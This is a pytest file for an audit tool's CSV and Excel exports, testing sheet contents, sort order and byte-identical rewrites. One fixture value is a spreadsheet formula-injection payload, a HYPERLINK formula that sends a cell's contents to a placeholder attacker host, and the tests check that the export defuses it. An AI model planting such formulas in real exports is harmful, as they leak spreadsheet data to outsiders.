"""Exports for people: source_profile.csv and audit.xlsx (sheets, header, rows, no formula,
byte-identical on rewrite). The workbook is read as its XML with zipfile, so no reader library
is needed."""

from __future__ import annotations

import csv
import html
import json
import re
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from provaudit.reports.workbook import csv_cell, evidence_slugs, write_profile_csv, write_workbook

HOSTILE = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'


@pytest.fixture
def run_dir(tmp_path: Path) -> Path:
    run = tmp_path / "20240501T000000Z-abc"
    (run / "profiles").mkdir(parents=True)
    table = pa.table({
        "source": ["web_crawl", "licensed_news"],
        "license_declared": [HOSTILE, None],
        "documents": [12, 3],
        "share_of_corpus": [0.8, 0.2],
        "evidence_present": [False, True],
        "languages": ['{"en": 1.0}', '{"de": 0.5, "en": 0.5}'],
    })
    pq.write_table(table, run / "profiles" / "source_profile.parquet")
    (run / "validation").mkdir()
    verdicts = [
        {"suite": "legitimate_sources", "expectation": "expect_column_values_to_be_between",
         "column": "opted_out_documents", "requirement_ids": ["EU-53c-optout"],
         "description": "No document comes from an opted-out domain.", "severity": "critical",
         "success": False, "failing": ["web_crawl"], "observed": None},
        {"suite": "legitimate_sources", "expectation": "expect_column_values_to_be_between",
         "column": "unknown_license_share", "requirement_ids": ["CN-IM-7.2"],
         "description": "Licences known.", "severity": "critical",
         "success": False, "failing": ["licensed_news"], "observed": None},
        {"suite": "data_quality", "expectation": "expect_column_values_to_be_between",
         "column": "empty_documents", "requirement_ids": ["CN-IM-7.4"],
         "description": "No empty documents.", "severity": "warning",
         "success": True, "failing": [], "observed": None},
    ]
    (run / "validation" / "results.json").write_text(json.dumps({"verdicts": verdicts}), "utf-8")
    (run / "disclosures").mkdir()
    sections = [{"human_fields": [
        {"id": "CN-TC-5.1a-pre-statement", "label": "pre-collection", "hint": "the record"},
        {"id": "filled-one", "label": "done", "hint": "x", "text": "Filed on 1 May."},
    ]}, {"human_fields": []}]
    (run / "disclosures" / "cn_filing_annex.json").write_text(
        json.dumps({"sections": sections}), "utf-8")
    (run / "evidence").mkdir()
    with open(run / "evidence" / "legitimate_sources-opted_out_documents.csv", "w",
              newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["source", "doc_id"], ["web_crawl", "a"], ["web_crawl", "b"],
                                  ["web_crawl", "c"]])
    (run / "manifest.json").write_text(json.dumps({"started": "2024-05-01T08:30:00Z"}), "utf-8")
    return run


def test_csv_has_the_parquet_rows_and_columns_and_defuses_formulas(run_dir: Path) -> None:
    path = Path(write_profile_csv(str(run_dir)))
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    parquet = pq.read_table(run_dir / "profiles" / "source_profile.parquet")
    assert rows[0] == parquet.column_names
    assert [r[0] for r in rows[1:]] == ["licensed_news", "web_crawl"]  # sorted by source
    crawl = dict(zip(rows[0], rows[2]))
    assert crawl["license_declared"] == "'" + HOSTILE  # never a formula in a spreadsheet
    assert crawl["languages"] == '{"en": 1.0}'  # JSON strings as they are
    assert crawl["evidence_present"] == "false" and crawl["documents"] == "12"
    assert dict(zip(rows[0], rows[1]))["license_declared"] == ""  # null
    first = path.read_bytes()
    write_profile_csv(str(run_dir))
    assert path.read_bytes() == first


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("plain", "plain"), (-1, "-1"), (0.5, "0.5"), (None, ""), (True, "true"),
])
def test_csv_cell(value, expected) -> None:
    assert csv_cell(value) == expected


def _xlsx(path: Path) -> tuple[dict[str, list[list[str]]], dict[str, str]]:
    """Sheet name -> rows of cell texts (shared strings resolved), and the raw sheet XML."""
    with zipfile.ZipFile(path) as archive:
        names = re.findall(r'<sheet name="([^"]+)" sheetId="(\d+)"',
                           archive.read("xl/workbook.xml").decode())
        shared = []
        if "xl/sharedStrings.xml" in archive.namelist():
            shared = [html.unescape(re.sub(r"<[^>]+>", "", s)) for s in re.findall(
                r"<si>(.*?)</si>", archive.read("xl/sharedStrings.xml").decode(), re.DOTALL)]
        sheets, raw = {}, {}
        for name, number in names:
            xml = archive.read(f"xl/worksheets/sheet{number}.xml").decode()
            raw[name] = xml
            rows = []
            for row in re.findall(r"<row [^>]*>(.*?)</row>", xml, re.DOTALL):
                cells = []
                for attrs, body in re.findall(r"<c ([^>]*?)(?:/>|>(.*?)</c>)", row, re.DOTALL):
                    value = re.search(r"<v>(.*?)</v>", body or "")
                    text = value.group(1) if value else ""
                    if 't="s"' in attrs:
                        text = shared[int(text)]
                    cells.append(text)
                rows.append(cells)
            sheets[name] = rows
    return sheets, raw


def test_workbook_sheets_rows_and_formatting(run_dir: Path) -> None:
    path = Path(write_workbook(str(run_dir)))
    sheets, raw = _xlsx(path)
    assert list(sheets) == ["Sources", "Failures", "Open statements"]
    sources = sheets["Sources"]
    assert sources[0][:3] == ["source", "license_declared", "documents"]
    assert [r[0] for r in sources[1:]] == ["licensed_news", "web_crawl"]
    failures = sheets["Failures"]
    assert failures[0][-2:] == ["evidence file", "evidence rows"]
    assert len(failures) == 3  # header + the two failed expectations
    opted = failures[1]
    assert opted[0] == "legitimate_sources" and opted[3] == "EU-53c-optout"
    assert opted[5] == "web_crawl"
    assert opted[6:] == ["evidence/legitimate_sources-opted_out_documents.csv", "3"]
    assert len(failures[2]) == 6  # no evidence file: file and count left empty
    assert sheets["Open statements"] == [
        ["disclosure", "field id", "label", "hint"],
        ["cn_filing_annex", "CN-TC-5.1a-pre-statement", "pre-collection", "the record"],
    ]
    for xml in raw.values():
        assert "<f>" not in xml  # no formula anywhere
        assert '<pane ySplit="1"' in xml and "<autoFilter " in xml and "<cols>" in xml
    # the hostile registry value is a (shared) string cell, not a formula
    assert HYPERLINK_CELL.search(raw["Sources"]) and HOSTILE in sources[2]


HYPERLINK_CELL = re.compile(r'<c r="B3"[^>]*t="s"')


def test_workbook_is_byte_identical_on_rewrite(run_dir: Path) -> None:
    path = Path(write_workbook(str(run_dir)))
    first = path.read_bytes()
    path.unlink()
    assert Path(write_workbook(str(run_dir))).read_bytes() == first
    with zipfile.ZipFile(path) as archive:
        core = archive.read("docProps/core.xml").decode()
        assert "2024-05-01T08:30:00Z" in core  # created = the run's start, not the clock
        stamps = {info.date_time for info in archive.infolist()}
        assert len(stamps) == 1 and next(iter(stamps))[0] == 1980  # XlsxWriter's fixed date


def test_evidence_slugs_follow_the_evidence_stage() -> None:
    verdicts = [{"suite": "a", "column": "x"}, {"suite": "a", "column": "x"},
                {"suite": "b", "column": None}]
    assert evidence_slugs(verdicts) == ["a-x", "a-x-2", "b-"]
